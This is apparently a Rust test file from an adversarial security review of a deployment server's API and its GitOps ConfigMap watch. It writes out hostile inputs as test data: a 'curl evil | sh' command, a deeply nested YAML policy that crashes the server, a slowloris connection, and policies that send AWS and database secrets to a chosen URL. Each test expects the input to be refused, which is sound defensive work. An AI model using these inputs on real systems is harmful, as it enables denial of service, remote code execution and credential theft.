//! An adversarial review of `rampart serve`: its API under hostile input from the
//! least trusted roles, its connections, and the GitOps watch's entry into the same
//! submission path (a ConfigMap anyone in a watched namespace may write).
//!
//! Each test fails on the code it was written against and passes once the defect it
//! names is fixed.

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

mod common;

use std::io::{Read, Write};
use std::time::Duration;

use common::serve::{Server, until};
use serde_json::{Value, json};

/// A policy nested `depth` block sequences deep (`- - - ... x`): two bytes a level, so
/// far below the API's body limit, and below the YAML reader's cap on values.
fn nested_policy(depth: usize) -> String {
    let mut text = "- ".repeat(depth);
    text.push('x');
    text
}

/// Review: the policy reader builds the document's tree without a depth limit and the
/// tree is dropped (and decoded) recursively, so a deeply nested document overflows the
/// stack of the worker that handles it, which aborts the whole process: every release
/// the server drives stops with it. `POST /api/v1/policies/validate` is open to a
/// `viewer`, the least trusted role (and the MCP tool `validate_policy` reads the
/// same text in-process). A document nested deeper than any policy needs must be
/// refused as invalid, and the server must go on answering.
#[test]
fn a_viewer_cannot_bring_the_server_down_with_a_deeply_nested_policy() {
    let dir = tempfile::tempdir().unwrap();
    let mut server = Server::start(dir.path());
    let viewer = server.token("viewer", "val");
    let (status, answer) = server.call(
        "POST",
        "/api/v1/policies/validate",
        Some(&viewer),
        Some(json!({ "policy": nested_policy(90_000) })),
    );
    let exited = server.child.try_wait().unwrap();
    let healthy = server.call("GET", "/healthz", None, None).0 == 200;
    assert!(
        exited.is_none() && healthy,
        "the server died on a viewer's nested policy (exit {exited:?}); the call answered {status} {answer}"
    );
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["valid"], json!(false), "{answer}");
}

/// The same document, submitted as a release by an `agent` token (what `rampart mcp`
/// holds): the submission path parses the policy before anything else.
#[test]
fn an_agent_cannot_bring_the_server_down_with_a_deeply_nested_submission() {
    let dir = tempfile::tempdir().unwrap();
    let mut server = Server::start(dir.path());
    let agent = server.token("agent", "bot");
    let (status, answer) = server.call(
        "POST",
        "/api/v1/releases",
        Some(&agent),
        Some(json!({ "policy": nested_policy(90_000), "version": "v2" })),
    );
    let exited = server.child.try_wait().unwrap();
    let healthy = server.call("GET", "/healthz", None, None).0 == 200;
    assert!(
        exited.is_none() && healthy,
        "the server died on an agent's nested submission (exit {exited:?}); the call answered {status} {answer}"
    );
    assert_eq!(status, 422, "{answer}");
}

/// Review: `axum::serve` is given no timer, so hyper's header read timeout never
/// applies: a client that opens a connection and never finishes its request line and
/// headers holds the connection (and its task) for ever. Enough of them exhaust the
/// server's file descriptors (slowloris), and nothing but `/healthz` needs a token to
/// be reached. A connection whose headers are not complete within a bounded time must
/// be closed by the server.
#[test]
fn a_connection_that_never_finishes_its_headers_is_closed() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let mut slow = std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        .unwrap();
    // Reads return when the server closes the connection (0 bytes, or a reset); the
    // short read timeout only lets the loop look at the deadline.
    slow.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let mut closed = false;
    until(
        "the server closes a connection whose headers never end",
        Duration::from_secs(90),
        || {
            let mut buf = [0u8; 512];
            match slow.read(&mut buf) {
                Ok(_) => closed = true, // 0 bytes (closed) or an error answer (408)
                Err(e)
                    if matches!(
                        e.kind(),
                        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                    ) => {}
                Err(_) => closed = true, // reset
            }
            closed
        },
    );
    assert!(closed);
}

// === the GitOps watch: a ConfigMap's policy must not run programs or send secrets ===

#[cfg(feature = "kubernetes")]
#[path = "../../kubernetes/tests/support/mod.rs"]
mod support;

#[cfg(feature = "kubernetes")]
mod gitops {
    use std::sync::{Arc, Mutex};

    use rampart::serve::App;
    use rampart::serve::gitops::{Did, Watch};
    use rampart::serve::queue::Queue;
    use rampart_adapters::clock::TokioClock;
    use rampart_adapters::store::StateStore;
    use rampart_core::ports::Clock;
    use rampart_kubernetes::gitops::Watched;
    use serde_json::{Value, json};

    use super::support::cluster::{self, World};
    use super::support::{NS, deployments};

    /// A Kubernetes policy for `shop/checkout` with `extra` appended at the top level.
    fn policy(extra: &str) -> String {
        format!(
            r#"service: checkout
deploy:
  kubernetes:
    namespace: {NS}
    deployment: checkout
    container: app
    image: "registry.example.com/checkout:{{version}}"
traffic:
  kubernetes: {{mode: replica_ratio, replicas: 2}}
strategy: {{canary: {{steps: [{{weight: 50, bake: 1s}}]}}}}
analysis:
  interval: 1s
  prometheus: http://127.0.0.1:9
  metrics:
    - name: errors
      source: prometheus
      query: 'sum(rate(errors{{track="{{variant}}"}}[1m]))'
      judge: {{max: 0.05}}
rollback:
  drain: 0s
{extra}"#
        )
    }

    fn manifest() -> Value {
        let mut d = super::support::stable("v1", 2);
        let annotations = d["metadata"]["annotations"].as_object_mut().unwrap();
        annotations.remove("deployment.kubernetes.io/revision");
        annotations.insert("rampart.dev/policy".into(), json!("checkout-policy"));
        d
    }

    fn config_map(policy: &str) -> (String, Value) {
        (
            format!("/api/v1/namespaces/{NS}/configmaps/checkout-policy"),
            json!({"apiVersion": "v1", "kind": "ConfigMap",
                   "metadata": {"name": "checkout-policy", "namespace": NS},
                   "data": {"rampart.yaml": policy}}),
        )
    }

    /// What the watch's first look at the opted-in Deployment does with `policy` in
    /// its ConfigMap.
    fn first_tick(policy: &str) -> Vec<(String, Did)> {
        // The policy itself is valid: a refusal below is the watch's, not the decoder's.
        if let Err(e) = rampart_core::Policy::from_yaml(policy) {
            panic!("the test's policy is invalid: {e}\n{policy}");
        }
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .unwrap();
        let dir = tempfile::tempdir().unwrap();
        rt.block_on(async {
            let objects = vec![(deployments("checkout"), manifest()), config_map(policy)];
            let (_, world): (_, Arc<Mutex<World>>) = cluster::start(objects);
            let store = Arc::new(
                StateStore::open(&dir.path().join("rampart.db"))
                    .await
                    .unwrap(),
            );
            let clock: Arc<dyn Clock> = Arc::new(TokioClock::starting_at(1_800_000_000_000));
            let client = cluster::connect(&world);
            let queue =
                Queue::with_cluster(store.clone(), dir.path().to_path_buf(), clock.clone(), None);
            let app = App {
                store,
                clock,
                submitted: queue.waker(),
                feed: tokio::sync::broadcast::channel(16).0,
                workdir: dir.path().to_path_buf(),
            };
            let watch = Watch::new(app, Watched::new(client, vec![NS.to_string()]));
            watch.tick().await.unwrap()
        })
    }

    fn refused(did: &[(String, Did)], what: &str) {
        assert!(
            matches!(did, [(_, Did::Invalid(why))] if why.contains("may not run programs")),
            "a ConfigMap policy that {what} was taken: {did:?}"
        );
    }

    /// The baseline: the same policy without the extra part is adopted (so the tests
    /// below fail for the part they add, not for the setup).
    #[test]
    fn gitops_review_the_plain_policy_is_adopted_fake_api() {
        let did = first_tick(&policy(""));
        assert!(matches!(&did[..], [(_, Did::Adopted)]), "{did:?}");
        // And a pre-release gate command is refused, as documented.
        let gate = policy("gates: {pre: [{command: [sh, -c, 'id']}]}\n");
        refused(&first_tick(&gate), "runs a gate command");
    }

    /// Review: `runs_on_the_server` (crates/kubernetes/src/gitops.rs) looks at
    /// `gates.pre`, `migrations`, `notify` and metrics, but not at
    /// `post_release.checks`, which take the same `command` (and `env`) checks as a
    /// gate: anyone who may write a ConfigMap in a watched namespace runs any program
    /// in rampart's pod once the release promotes.
    #[test]
    fn gitops_review_a_post_release_check_command_from_a_configmap_is_refused_fake_api() {
        let p =
            policy("post_release:\n  checks: [{name: own, command: [sh, -c, 'curl evil | sh']}]\n");
        refused(&first_tick(&p), "runs a post_release command");
    }

    /// Review: a `post_release` check of the environment reads rampart's environment
    /// (`env` gates are refused; the same check after promotion is not).
    #[test]
    fn gitops_review_a_post_release_env_check_from_a_configmap_is_refused_fake_api() {
        let p = policy("post_release:\n  checks: [{name: env, env: [AWS_SECRET_ACCESS_KEY]}]\n");
        let did = first_tick(&p);
        assert!(
            matches!(&did[..], [(_, Did::Invalid(_))]),
            "a ConfigMap policy reading rampart's environment was taken: {did:?}"
        );
    }

    /// Review: a PagerDuty hook's `routing_key_env` names any variable of rampart's
    /// environment and its `url` any endpoint: the ConfigMap's author receives the
    /// variable's value (an AWS secret, the store's password) with the first page.
    /// Webhook and Slack secrets from the environment are refused; this one is not.
    #[test]
    fn gitops_review_a_pagerduty_key_read_from_the_environment_is_refused_fake_api() {
        let p = policy(
            "notify:\n  - pagerduty: {routing_key_env: AWS_SECRET_ACCESS_KEY, url: 'http://127.0.0.1:9/collect'}\n    on: [started, approval, done]\n",
        );
        refused(
            &first_tick(&p),
            "sends an environment variable to a URL it chose",
        );
    }

    /// Review: the same with Datadog: `analysis.datadog.api_key_env` names any
    /// variable and `analysis.datadog.url` any endpoint, so every interval's query
    /// carries the value of the variable the ConfigMap chose to a server it chose.
    #[test]
    fn gitops_review_a_datadog_key_of_any_variable_to_any_url_is_refused_fake_api() {
        let p = policy("").replace(
            "  prometheus: http://127.0.0.1:9\n",
            "  prometheus: http://127.0.0.1:9\n  datadog: {url: 'http://127.0.0.1:9', api_key_env: AWS_SECRET_ACCESS_KEY, app_key_env: PGPASSWORD}\n",
        ) .replace(
            "    - name: errors\n",
            "    - name: dd\n      source: datadog\n      query: 'sum:errors{version:{version}}'\n      judge: {max: 0.05}\n    - name: errors\n",
        );
        let did = first_tick(&p);
        assert!(
            matches!(&did[..], [(_, Did::Invalid(_))]),
            "a ConfigMap policy sending a chosen environment variable to a chosen URL was taken: {did:?}"
        );
    }
}

/// An agent's submission is refused unless it repeats the service's last release
/// (its policy, from its directory). The server checked `workdir` first and answered
/// "workdir X is not a directory on the server" for one that does not exist: an
/// agent could map the server's directories through it. The refusal must be the same
/// whether the directory exists or not.
#[test]
fn an_agents_refused_release_does_not_tell_which_directories_exist() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("state"));
    let agent = server.token("agent", "bot");
    let policy = common::serve::policy("probe", common::free_port(), "");
    let exists = dir.path().to_str().unwrap().to_string();
    let missing = dir.path().join("no-such-dir").to_str().unwrap().to_string();
    let answers: Vec<(u16, Value)> = [exists, missing]
        .iter()
        .map(|workdir| {
            server.call(
                "POST",
                "/api/v1/releases",
                Some(&agent),
                Some(json!({"policy": policy, "version": "v2", "workdir": workdir})),
            )
        })
        .collect();
    assert_eq!(answers[0].0, 403, "{:?}", answers[0].1);
    assert_eq!(
        answers[0], answers[1],
        "the answers tell an existing directory from a missing one"
    );
}
